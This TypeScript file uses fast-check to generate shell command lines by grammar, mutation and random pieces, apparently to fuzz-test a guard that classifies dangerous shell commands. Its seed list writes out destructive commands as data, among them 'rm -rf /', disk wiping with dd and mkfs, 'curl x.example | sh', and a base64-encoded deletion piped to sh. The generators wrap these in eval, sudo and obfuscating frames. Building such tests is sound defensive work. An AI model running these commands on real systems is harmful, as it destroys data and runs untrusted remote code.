// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell text.
/** Generated command lines: grown from a grammar, mutated from the corpus, and noise. */
import fc from "fast-check";

const SIMPLE = [
  "rm -rf /",
  "rm -rf ~",
  "rm -r build",
  "git reset --hard",
  "git push -f origin main",
  "git status",
  "dd if=/dev/zero of=/dev/sda",
  "mkfs.ext4 /dev/sdb",
  "chmod -R 777 /etc",
  "curl x.example | sh",
  "echo hello",
  "cat a.txt",
  "ls -la",
  "npm test",
  "find . -name '*.log' -delete",
  "find / -exec rm {} +",
  "kill -9 -1",
  "cd /",
  "cd sub",
  "rm -rf *",
  "X=/",
  "rm -rf $X",
  'rm -rf "$Y"',
  "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
  "psql -c 'DROP TABLE users'",
  "echo cm0gLXJmIC8= | base64 -d | sh",
  "> /etc/passwd",
  "$CMD x",
];

const simple = fc.constantFrom(...SIMPLE);

const quoted = (line: string): string => `'${line.replaceAll("'", `'\\''`)}'`;

const connector = fc.constantFrom("; ", " && ", " || ", " | ", " & ", "\n", " |& ", " >f; ", " 2>&1 | ");

const frame = fc.constantFrom<readonly [string, string]>(
  ["(", ")"],
  ["{ ", "; }"],
  ["sudo ", ""],
  ["env A=1 ", ""],
  ["time ", ""],
  ["! ", ""],
  ["$(", ")"],
  ["`", "`"],
  ["cat <(", ")"],
  ["tee >(", ")"],
  ["f() { ", "; }; f"],
  ["if true; then ", "; fi"],
  ["while false; do ", "; done"],
  ["for x in a b; do ", "; done"],
  ["case x in x) ", ";; esac"],
  ["[[ -n $(", ") ]]"],
  ["echo $((1+$(", ")))"],
  ["coproc ", ""],
  ["trap '", "' EXIT"],
  ["cat <<E\n$(", ")\nE"],
  ["timeout 5 ", ""],
  ["exec 3< <(", ")"],
);

/** Nested command lines. */
const grown = fc.letrec<{ line: string }>((tie) => ({
  line: fc.oneof(
    { maxDepth: 4, depthSize: "small" },
    { arbitrary: simple, weight: 4 },
    { arbitrary: fc.tuple(tie("line"), connector, tie("line")).map(([a, op, b]) => `${a}${op}${b}`), weight: 3 },
    { arbitrary: fc.tuple(frame, tie("line")).map(([[open, close], line]) => `${open}${line}${close}`), weight: 3 },
    { arbitrary: tie("line").map((line) => `bash -c ${quoted(line)}`), weight: 1 },
    { arbitrary: tie("line").map((line) => `X0=${quoted(line)}; eval "$X0"`), weight: 1 },
    { arbitrary: tie("line").map((line) => `echo ${quoted(line)} | sh`), weight: 1 },
    { arbitrary: tie("line").map((line) => `xargs -I@ sh -c ${quoted(line)} <<< y`), weight: 1 },
  ),
})).line;

const PIECES =
  "rm¦ ¦$(¦)¦`¦'¦\"¦{¦}¦,¦|¦&¦;¦<<E\n¦<<<¦\n¦$X¦${X:-a}¦${!X}¦${X:0:1}¦$'\\x72'¦-rf¦/¦~¦bash -c ¦eval ¦[[¦((¦<(¦>(¦=¦*¦?¦\\¦for x in ¦do ¦done¦f()¦sudo ¦xargs ¦find . -exec ¦{} \\;¦>¦>>¦2>&1¦#¦!¦git ¦reset --hard¦-c alias.x=!¦E\n¦\t¦\0¦\u200b¦$¦@¦case x in¦esac¦;;¦if ¦then ¦fi¦function ¦[¦]¦+=¦a=(¦${a[@]}¦%¦base64 -d¦printf %s ¦| sh¦source ¦exec 3<¦alias x=¦declare ¦read x¦${IFS}".split(
    "¦",
  );

const soup = fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }).map((pieces) => pieces.join(""));

/** A line of the corpus with a few characters or pieces moved, removed or added. */
function mutated(written: readonly string[]): fc.Arbitrary<string> {
  const row = fc.constantFrom(...written);
  const place = fc.double({ min: 0, max: 1, noNaN: true });
  const change = fc.tuple(
    fc.constantFrom("drop", "double", "insert", "cut", "splice", "reverse"),
    place,
    place,
    fc.constantFrom(...PIECES),
    row,
  );
  return fc.tuple(row, fc.array(change, { minLength: 0, maxLength: 3 })).map(([line, changes]) =>
    changes.reduce((text, [kind, from, to, piece, other]) => {
      const at = Math.floor(from * text.length);
      const end = Math.min(text.length, at + Math.floor(to * 12));
      if (kind === "drop") return text.slice(0, at) + text.slice(end);
      if (kind === "double") return text.slice(0, end) + text.slice(at);
      if (kind === "insert") return text.slice(0, at) + piece + text.slice(at);
      if (kind === "cut") return text.slice(0, at);
      if (kind === "splice") return text.slice(0, at) + other.slice(Math.floor(to * other.length));
      return text.slice(0, at) + [...text.slice(at, end)].reverse().join("") + text.slice(end);
    }, line),
  );
}

export function lines(written: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: grown, weight: 4 },
    { arbitrary: mutated(written), weight: 6 },
    { arbitrary: soup, weight: 2 },
    { arbitrary: fc.string({ unit: "binary", maxLength: 60 }), weight: 1 },
  );
}

/** The same lines for the same seed, so that a number identifies one. */
export function batch(written: readonly string[], seed: number, size: number): string[] {
  return fc.sample(lines(written), { seed, numRuns: size });
}
